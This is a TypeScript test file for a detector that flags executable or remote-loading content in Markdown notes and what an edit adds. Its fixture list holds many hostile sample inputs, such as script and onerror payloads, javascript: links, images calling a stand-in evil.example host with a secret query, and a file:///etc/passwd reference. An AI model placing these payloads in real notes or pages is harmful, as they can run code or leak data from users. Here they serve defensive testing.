import { describe, expect, test } from 'vitest';
import { addedActiveContent, activeContent } from '#policy/active/active-content';

const asks = (text: string, path = 'Note.md') => activeContent(path, text).length > 0;

/** Blocks that plugins execute, text that loads from elsewhere, and links that start programs. */
const RUNS: readonly string[] = [
  '```dataviewjs\ndv.view("x")\n```',
  '> - ```dataviewjs\n>   x\n>   ```',
  '   ~~~~DataviewJS\nx\n~~~~',
  '```js-engine\nx\n```',
  '```run-python\nx\n```',
  '```datacorejsx\nx\n```',
  '```button\nname x\naction obs\n```',
  '```tasks\nfilter by function true\n```',
  '```{python}\nx\n```',
  '```unheard-of\nx\n```',
  '```mermaid\ngraph TD\nA@{ img: "https://evil.example/x.png" }\n```',
  '```mermaid\ngraph TD\n    ```\nclick A call evil()\n```',
  'Today is `$= dv.date("now")`.',
  'Press `BUTTON[go]`.',
  '<% tp.system.prompt("x") %>',
  '<%* await tp.user.evil() -%>',
  'Unclosed <% tp.x',
  '<iframe src="https://evil.example"></iframe>',
  '<IFRAME\nSRC=//evil.example>',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img alt=">" src="https://evil.example/x.png">',
  "<a '<img src=//evil.example/x>",
  '<div style="background: url(https://evil.example/x.png)">x</div>',
  '<svg><image xlink:href="https://evil.example/x"/></svg>',
  '<svg><image href="https://evil.example/x"/></svg>',
  '<svg><filter><feImage href=//evil.example/x /></filter></svg>',
  '<video poster="https://evil.example/x"></video>',
  '<object data="x"></object>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(//evil.example/x.css)</style>',
  '<a href="obsidian://open?vault=x">here</a>',
  '<a href="&#111;bsidian://open">here</a>',
  '![](https://evil.example/x.png?d=secret)',
  '![words](//evil.example/x.png)',
  '![words](\\\\evil\\share\\x.png)',
  '![words](h&#116;tps://evil.example/x.png)',
  '![words](https\\://evil.example/x.png)',
  '![words](<https://evil.example/x y.png>)',
  '![a [b] c](https://evil.example/x.png)',
  '![[b] c](https://evil.example/x.png)',
  '![`]`](https://evil.example/x.png)',
  '![words](\nhttps://evil.example/x.png)',
  '![words][ref]\n\nText.\n\n[ref]: https://evil.example/x.png',
  '![ref]\n\n[ref]: <//evil.example/x.png>',
  '![x][a\\]b]\n\n[a\\]b]: https://evil.example/x.png',
  '![x][a\nb]\n\n[a\nb]:\nhttps://evil.example/x.png',
  '```plantuml\nA -> B\n```',
  '![x](file:///etc/passwd)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '---\nbanner: "https://evil.example/x"\n---\n',
  'Sum: $\\style{background: url(https://evil.example/x)}{x}$',
  '$$\n\\href{javascript:alert(1)}{x}\n$$',
  '[^1]: ```dataviewjs\n    x\n',
  '---\ntitle: A\nbanner: >-\n  https://evil.example/x\n---\n',
  '---\ncover:\n  - https://evil.example/x\n---\n',
  '---\n{banner: "https://evil.example/x"}\n---\n',
  '---\npreview: https://evil.example/x.png\n---\n',
  '[click](obsidian://advanced-uri?commandid=x)',
  'See obsidian://open?vault=x for more.',
  '<obsidian://open?vault=x>',
  '[click](javascript:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](vscode://x)',
  '[click][ref]\n\n[ref]: shortcuts://run?name=x',
];

/** Text that people write every day. */
const RESTS: readonly string[] = [
  '',
  '# Title\n\nWords, *more* words and [[a link]].\n',
  '```js\nconsole.log("x")\n```',
  '```\nno language\n```',
  '```tasks\nnot done\n```',
  '```dataview\nTABLE rating FROM #book\n```',
  '```mermaid\ngraph TD\nA --> B\n```',
  '> [!note] Callout\n> text',
  '```ad-note\ntext\n```',
  '![[photo.png]] and [a site](https://example.org)',
  '![photo](Media/photo%20one.png "A title: here") and [a site](https://example.org)',
  '![photo|100](<Media/photo one.png>)',
  '[a site](https://example.org/?a=1&amp;b=2) <https://example.org> https://example.org/x.png',
  '[mail](mailto:a@example.org)',
  '[a note](Folder/Note.md#Part: two)',
  'A word[^1].\n\n[^1]: See: the book.',
  '<u>under</u><br>H<sub>2</sub>O <details><summary>More</summary>x</details>',
  'a < b and List<Object> and std::vector<std::string>',
  '---\ncover: Media/photo.png\nsource:\n  - https://example.org/page\n---\n\nText.\n',
  'With $\\textstyle x$ and $\\frac{1}{2}$ it is $5.',
  '<svg><use href="#shape"/></svg>',
  '---\ntitle: A\nsource: https://example.org/page\n---\n\nText.\n',
  'Costs 5 % of <5%',
  'Use `= this.file.name` and `code`.',
  '- [ ] Buy `$5` of milk',
];

describe('active content', () => {
  test.each(RUNS)('%j is active content', (text) => {
    expect(asks(text)).toBe(true);
    expect(asks(`# Before\n\n${text}\n\nAfter.\n`.replace(/^# Before\n\n(---)/, '$1'))).toBe(true);
  });

  test.each(RESTS)('%j is not active content', (text) => {
    expect(activeContent('Note.md', text)).toEqual([]);
  });

  test('active content depends on the kind of file', () => {
    expect(asks('alert(1)', 'Scripts/x.js')).toBe(true);
    expect(asks('p{}', 'x.CSS')).toBe(true);
    expect(asks('calc', 'Tools/start.bat')).toBe(true);
    expect(asks('[InternetShortcut]', 'Tools/page.url')).toBe(true);
    expect(asks('a,b', 'Tools/list.csv')).toBe(false);
    const page = { nodes: [{ type: 'link', url: 'https://evil.example' }] };
    expect(asks(JSON.stringify(page), 'Board.canvas')).toBe(true);
    const card = { nodes: [{ type: 'text', text: '![](https://evil.example/x)' }] };
    expect(asks(JSON.stringify(card).replace('https', '\\u0068ttps'), 'Board.canvas')).toBe(true);
    const plain = {
      nodes: [
        { type: 'text', text: 'Beans' },
        { type: 'file', file: 'A.md' },
      ],
    };
    expect(asks(JSON.stringify(plain), 'Board.canvas')).toBe(false);
    expect(asks('formulas:\n  x: image("https://evil.example")\n', 'All.base')).toBe(true);
  });
});

/** Texts of 20,000 characters and more that a backtracking pattern would not get through. */
const LONG: readonly [string, string][] = [
  ['callout marks', `${'[!]'.repeat(7_000)}x\`\`\`y`],
  ['tildes before a backtick', `${'~'.repeat(20_000)}\``],
  ['blanks below a table', `a \`b\` | c\n${' '.repeat(100_000)}x`],
];
test.each(LONG)('a note with a long run of %s is checked to its end', (_what, text) => {
  expect(asks(`${text}\n\n<iframe src="https://evil.example"></iframe>`)).toBe(true);
});

test.each(['type', 'name', 'displayName', 'order'])(
  'a formula of a base named %s is checked like any other',
  (name) => {
    expect(asks(`formulas:\n  ${name}: image("https://evil.example")\n`, 'All.base')).toBe(true);
  },
);

describe('what a change adds', () => {
  const added = (before: string, after: string) =>
    addedActiveContent('Note.md', before, after).map(({ text }) => text);

  test('moved active content is not new', () => {
    const block = '```dataviewjs\none\n```';
    expect(added(`${block}\n\nText.\n`, `Text, longer.\n\n${block}\n`)).toEqual([]);
  });

  test('a second copy of active content is new', () => {
    expect(added('<% one %>', '<% one %> <% one %>')).toEqual(['<% one %>']);
  });

  test('a changed word in active content is new', () => {
    expect(added('```dataviewjs\none\n```', '```dataviewjs\ntwo\n```')).toEqual([
      '```dataviewjs\ntwo\n```',
    ]);
  });

  test('an opening that makes existing text active is new', () => {
    expect(added('one\n```', '```dataviewjs\none\n```')).toHaveLength(1);
  });

  test.each([
    ['````\n```dataviewjs\nx\n```\n````\n', '```dataviewjs\nx\n```\n'],
    ['- ~~~md\n  ```dataviewjs\n  x\n  ```\n  ~~~\n', '- y\n  ```dataviewjs\n  x\n  ```\n'],
    ['```html\r\n<iframe src="x">\r\n```\r\n', '<iframe src="x">\r\n'],
    ['Write `<iframe src="x">`.', 'Write <iframe src="x">.'],
    ['Text.\n\n    <iframe src="x">\n', 'Text.\n\n<iframe src="x">\n'],
    ['%%\n```dataviewjs\nx\n```\n%%\n', '```dataviewjs\nx\n```\n'],
    ['<!-- ![](https://evil.example/x) -->', '![](https://evil.example/x)'],
    ['\\![](https://evil.example/x)', '![](https://evil.example/x)'],
  ])('inactive text that becomes active is new: %j', (before, after) => {
    expect(added(before, after)).toHaveLength(1);
    expect(added(before, `New.\n\n${before}`)).toEqual([]);
    expect(added(after, before)).toEqual([]);
    expect(added(after, `New.\n\n${after}`)).toEqual([]);
  });

  test('the URL of an image that was referenced by name is new', () => {
    expect(added('![x][ref]', '![x][ref]\n\n[ref]: https://evil.example/x.png')).toHaveLength(1);
    expect(
      added('[ref]: https://evil.example/x.png', '![x][ref]\n\n[ref]: https://evil.example/x.png'),
    ).toHaveLength(1);
  });
});
